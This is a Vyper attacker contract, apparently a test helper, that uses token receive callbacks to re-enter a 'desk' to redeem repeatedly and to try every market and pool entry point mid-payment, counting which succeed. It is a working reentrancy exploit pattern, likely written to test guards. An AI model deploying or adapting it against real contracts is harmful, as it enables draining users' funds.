# pragma version 0.4.3
"""
@title Greedy
@notice Attacker: a contract that a token calls back when it is paid, and that uses the moment. At a desk it redeems once
        more; at a market and its pool it tries every door and counts those that open.
"""

from ethereum.ercs import IERC20

interface CallingToken:
    def register(called: bool): nonpayable


interface Desk:
    def deposit(amount: uint256): nonpayable
    def redeem(): nonpayable


interface Market:
    def close(id: uint256, price_limit: uint256, deadline: uint256): nonpayable


MAX_ROUNDS: constant(uint256) = 100
OPEN: constant(Bytes[4]) = method_id("open(int256,uint256,uint256,uint256)")
INCREASE: constant(Bytes[4]) = method_id("increase(uint256,uint256,uint256,uint256)")
DECREASE: constant(Bytes[4]) = method_id("decrease(uint256,uint256,uint256,uint256)")
CLOSE: constant(Bytes[4]) = method_id("close(uint256,uint256,uint256)")
ADD_MARGIN: constant(Bytes[4]) = method_id("add_margin(uint256,uint256)")
WITHDRAW_MARGIN: constant(Bytes[4]) = method_id("withdraw_margin(uint256,uint256)")
LIQUIDATE: constant(Bytes[4]) = method_id("liquidate(uint256)")
DEPOSIT: constant(Bytes[4]) = method_id("deposit(uint256,address)")

token: immutable(IERC20)
desk: immutable(Desk)
market: immutable(address)
pool: immutable(address)
saved: public(uint256)  # token units
rounds: public(uint256)
other: public(uint256)  # a position of this contract
is_at_market: bool
is_busy: bool
tried: public(uint256)
entered: public(uint256)


@deploy
def __init__(token_: address, desk_: address, market_: address, pool_: address):
    """
    @param token_ Calls back who registers.
    @param desk_ First victim.
    @param market_ Second.
    @param pool_ Its pool.
    """
    token = IERC20(token_)
    desk = Desk(desk_)
    market = market_
    pool = pool_
    extcall CallingToken(token_).register(True)
    for spender: address in [desk_, market_, pool_]:
        assert extcall token.approve(spender, max_value(uint256))


@external
def rob_desk():
    """
    @notice Saves all that is here, and redeems it as often as the desk can pay.
    """
    self.saved = staticcall token.balanceOf(self)
    extcall desk.deposit(self.saved)
    extcall desk.redeem()


@external
def rob_market(id: uint256, other: uint256):
    """
    @notice Closes one position and, when paid, tries all else.
    @param id A position of this contract.
    @param other Another.
    """
    self.other = other
    self.is_at_market = True
    extcall Market(market).close(id, 0, block.timestamp)
    self.is_at_market = False


@external
def try_outside():
    """
    @notice Tries the same doors in the open, and counts anew: for the comparison.
    """
    self.tried = 0
    self.entered = 0
    self.try_every_door()


@external
def tokens_to_send(sender: address, receiver: address, amount: uint256):
    """
    @notice Does nothing.
    """
    pass


@external
def tokens_received(sender: address, receiver: address, amount: uint256):
    """
    @notice Uses the moment.
    """
    if self.is_at_market:
        self.try_every_door()
    elif sender == desk.address and self.rounds < MAX_ROUNDS:
        self.rounds += 1
        if staticcall token.balanceOf(sender) >= self.saved:
            extcall desk.redeem()


@internal
def try_every_door():
    if self.is_busy:
        return
    self.is_busy = True
    never: uint256 = max_value(uint256)
    size: int256 = 10**18
    some: uint256 = 10**17  # base, WAD
    money: uint256 = 10**6
    self.knock(market, abi_encode(size, 50 * money, never, never, method_id=OPEN))
    self.knock(market, abi_encode(self.other, some, never, never, method_id=INCREASE))
    self.knock(market, abi_encode(self.other, some, empty(uint256), never, method_id=DECREASE))
    self.knock(market, abi_encode(self.other, money, method_id=ADD_MARGIN))
    self.knock(market, abi_encode(self.other, money, method_id=WITHDRAW_MARGIN))
    self.knock(market, abi_encode(self.other, method_id=LIQUIDATE))
    self.knock(pool, abi_encode(money, self, method_id=DEPOSIT))
    self.knock(market, abi_encode(self.other, empty(uint256), never, method_id=CLOSE))
    self.is_busy = False


@internal
def knock(door: address, data: Bytes[132]):
    entered: bool = raw_call(door, data, revert_on_failure=False)
    self.tried += 1
    self.entered += convert(entered, uint256)
